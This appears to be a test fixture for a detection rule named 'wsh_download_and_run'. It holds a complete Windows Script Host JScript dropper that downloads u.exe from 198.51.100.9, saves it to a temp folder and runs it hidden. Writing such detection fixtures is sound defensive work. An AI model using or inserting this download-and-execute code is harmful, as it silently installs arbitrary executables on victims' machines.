var x = new ActiveXObject('MSXML2.XMLHTTP');
x.open('GET', 'http://198.51.100.9/u.exe', false);
x.send();
// ruleid: wsh_download_and_run
var s = new ActiveXObject('ADODB.Stream');
s.Type = 1; s.Open(); s.Write(x.responseBody); s.SaveToFile(tmp + '\\u.exe', 2);
new ActiveXObject('WScript.Shell').Run(tmp + '\\u.exe', 0);
